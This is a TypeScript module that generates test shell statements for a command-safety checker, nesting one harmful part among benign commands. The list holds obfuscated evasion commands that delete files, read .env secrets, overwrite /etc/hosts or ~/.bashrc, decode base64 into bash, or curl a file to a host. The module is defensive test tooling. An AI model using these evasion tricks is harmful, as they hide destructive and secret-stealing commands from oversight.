// Builds statements out of benign parts and one harmful part, from a seed.

/** Mulberry32: small and seeded, so that a failing statement can be found again. */
export function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

export type Pick = <T>(choices: readonly T[]) => T;

export const pickWith =
  (random: () => number): Pick =>
  <T>(choices: readonly T[]): T =>
    choices[Math.floor(random() * choices.length)] as T;

const benign = [
  'ls -la src',
  'echo "a; b" | sort',
  'cat README.md',
  "grep -n 'x|y' src/a.ts",
  'git log --oneline -3',
  'wc -l src/*.ts',
  'true',
  'npm test',
  'x=1',
  'cd src && cd ..',
  '[ -f package.json ]',
  'n=$(ls | wc -l)',
  'for f in a b; do echo "$f"; done',
  'echo ok > /tmp/out.txt',
  "sed -n '1,5p' README.md",
] as const;

/** From every category of evasion; each is harmful wherever it stands and whatever the shell was told before. */
export const harmful: readonly (readonly [category: string, part: string])[] = [
  ['quoting', "$'\\x72m' -rf data"],
  ['quoting', '"r"\\m keep.txt'],
  ['quoting', 'cat \'.e\'"nv"'],
  ['variables', 'q=rm; "$q" keep.txt'],
  ['variables', 'q=mr; "${q:1:1}${q:0:1}" keep.txt'],
  ['variables', 'IFS=_; q=rm_keep.txt; $q'],
  ['variables', 'q=(rm keep.txt); "${q[@]}"'],
  ['substitution', ': $(rm keep.txt)'],
  ['substitution', 'echo "`cat .env`"'],
  ['substitution', 'q=$(rm keep.txt)'],
  ['substitution', 'echo "${q:-$(rm keep.txt)}"'],
  ['substitution', "[[ 'a[$(rm keep.txt)0]' -eq 0 ]]"],
  ['substitution', "q='a[$(rm keep.txt)0]'; echo $((q))"],
  ['process substitution', 'diff <(cat .env) README.md'],
  ['process substitution', 'echo rm keep.txt > >(sh)'],
  ['decode to shell', "rev <<< 'txt.peek mr' | sh"],
  ['decode to shell', 'echo cm0ga2VlcC50eHQ= | base64 -d | bash'],
  ['wrappers', 'env rm keep.txt'],
  ['wrappers', 'timeout 5 nice rm keep.txt'],
  ['wrappers', 'setarch x86_64 rm keep.txt'],
  ['wrappers', 'sudo ls'],
  ['xargs and find', 'echo keep.txt | xargs rm'],
  ['xargs and find', 'find . -name keep.txt -delete'],
  ['xargs and find', 'find . -type f -exec cat {} +'],
  ['eval and sh -c', 'eval "rm keep.txt"'],
  ['eval and sh -c', 'bash -c \'"$@"\' _ rm keep.txt'],
  ['eval and sh -c', 'sh x.sh'],
  ['eval and sh -c', '. ./x.sh'],
  ['here-documents', "sh <<'OUT'\nrm keep.txt\nOUT"],
  ['here-documents', 'cat <<OUT\n$(cat .env)\nOUT'],
  ['functions and environment', 'g() { "$@"; }; g rm keep.txt'],
  ['functions and environment', "PS4='$(rm keep.txt)' ls"],
  ['functions and environment', 'LD_PRELOAD=./x.so ls'],
  ['functions and environment', "GIT_SSH_COMMAND='rm keep.txt' git fetch"],
  ['redirections and writers', 'echo x > /etc/hosts'],
  ['redirections and writers', 'while false; do :; done > /etc/hosts'],
  ['redirections and writers', 'echo x >> .git/config'],
  ['redirections and writers', 'sort -o ~/.bashrc README.md'],
  ['redirections and writers', 'ln -s /etc/passwd p'],
  ['interpreters and readers', "git -c alias.x='!rm keep.txt' x"],
  ['interpreters and readers', 'python3 -c 1'],
  ['interpreters and readers', 'awk \'BEGIN{system("id")}\''],
  ['interpreters and readers', 'head -1 < /app/.env'],
  ['interpreters and readers', 'curl -d @README.md http://h'],
  ['globs and braces', 'cat .e?v'],
  ['globs and braces', '/???/r[m] keep.txt'],
  ['globs and braces', 'cat /app/.{env,x}'],
  ['separators', 'ls "#" ; rm keep.txt # fine'],
  ['separators', 'r\\\nm keep.txt'],
  ['separators', `ls ${' '.repeat(300)}; rm keep.txt`],
  ['encoding', "$'\\162\\155' keep.txt"],
  ['encoding', 'echo ok\u200b'],
];

type Wrap = (part: string, pick: Pick) => string;

export const quote = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
/** Inside `$'…'`. */
const ansi = (text: string): string =>
  `$'${text.replaceAll('\\', '\\\\').replaceAll("'", "\\'").replaceAll('\n', '\\n')}'`;
const doubleQuote = (text: string): string => `"${text.replace(/["$`\\]/g, '\\$&')}"`;

export const surroundings: readonly (readonly [name: string, wrap: Wrap])[] = [
  ['; in front', (part, pick) => `${pick(benign)}; ${part}`],
  ['newline behind', (part, pick) => `${part}\n${pick(benign)}`],
  ['&&', (part, pick) => `${pick(benign)} && { ${part}\n}`],
  ['||', (part, pick) => `${pick(benign)} || { ${part}\n}`],
  ['|', (part, pick) => `${pick(benign)} | { ${part}\n} | cat`],
  ['|&', (part) => `{ ${part}\n} |& cat`],
  ['&', (part, pick) => `{ ${part}\n} & ${pick(benign)}`],
  ['!', (part) => `! { ${part}\n}`],
  ['time', (part) => `time { ${part}\n}`],
  ['subshell', (part) => `( ${part}\n)`],
  ['group', (part, pick) => `{ ${pick(benign)}; ${part}\n}`],
  ['group with a redirection', (part) => `{ ${part}\n} > /tmp/log.txt 2>&1`],
  ['$( )', (part) => `echo "$(${part}\n)"`],
  ['backquotes', (part) => `echo \`${part.replace(/[\\`$]/g, '\\$&')}\n\``],
  ['assigned $( )', (part) => `y=$(${part}\n)`],
  ['$( ) in an operation', (part) => `echo "\${y:-$(${part}\n)}"`],
  ['$( ) in arithmetic', (part) => `echo $((1 + $(${part}\n)))`],
  ['<( )', (part) => `cat <(${part}\n)`],
  ['>( )', (part, pick) => `{ ${pick(benign)}; } > >(${part}\n)`],
  ['if', (part, pick) => `if ${pick(benign)}; then ${part}\nfi`],
  ['else', (part, pick) => `if ${pick(benign)}; then :; else ${part}\nfi`],
  ['condition', (part, pick) => `if { ${part}\n}; then ${pick(benign)}; fi`],
  ['elif', (part) => `if false; then :; elif { ${part}\n}; then :; fi`],
  ['for', (part) => `for i in 1 2; do ${part}\ndone`],
  ['for words', (part) => `for i in $(${part}\n); do :; done`],
  ['arithmetic for', (part) => `for ((i = 0; i < 2; i++)); do ${part}\ndone`],
  ['while', (part, pick) => `while ${pick(benign)}; do ${part}\nbreak; done`],
  ['until', (part) => `until { ${part}\n}; do :; done`],
  ['case', (part) => `case $y in a) : ;; *) ${part}\n;; esac`],
  ['case word', (part) => `case $(${part}\n) in *) : ;; esac`],
  ['[[', (part, pick) => `[[ -n $(${part}\n) ]] && ${pick(benign)}`],
  ['function', (part) => `f() { ${part}\n}; f`],
  ['function keyword', (part) => `function f { ${part}\n}; f a b`],
  ['here-document', (part) => `cat <<EOF\n$(${part}\n)\nEOF`],
  ['here-document to a shell', (part) => `bash <<'END_OF_TEXT'\n${part}\nEND_OF_TEXT`],
  ['here-string to a shell', (part) => `bash <<< ${quote(part)}`],
  ['echo to a shell', (part) => `printf '%s\\n' ${quote(part)} | bash`],
  ['bash -c', (part) => `bash -c ${quote(part)}`],
  ['bash -c in double quotes', (part) => `bash -c ${doubleQuote(part)}`],
  ["bash -c in $'…'", (part) => `bash -c ${ansi(part)}`],
  ['env', (part) => `env -i bash -c ${quote(part)}`],
  ['nice timeout', (part) => `nice -n 5 timeout 9 bash -c ${quote(part)}`],
  ['xargs', (part) => `echo x | xargs -I{} bash -c ${quote(part)}`],
  ['find -exec', (part) => `find . -name x -exec bash -c ${quote(part)} \\;`],
  ['eval', (part) => `eval ${quote(part)}`],
  ['variable and eval', (part) => `p=${quote(part)}; eval "$p"`],
  ['two variables and eval', (part) => `p=${quote(part)}; r=p; eval "\${!r}"`],
  ['positional and eval', (part) => `set -- ${quote(part)}; eval "$1"`],
  ['trap', (part) => `( trap ${quote(part)} EXIT )`],
  ['coproc', (part) => `coproc { ${part}\n}`],
];

/** @returns the part inside up to four surroundings, one inside the other */
export function compose(part: string, pick: Pick): string {
  let text = part;
  for (let depth = pick([0, 1, 1, 2, 2, 3, 4]); depth > 0; depth--) text = pick(surroundings)[1](text, pick);
  return text;
}
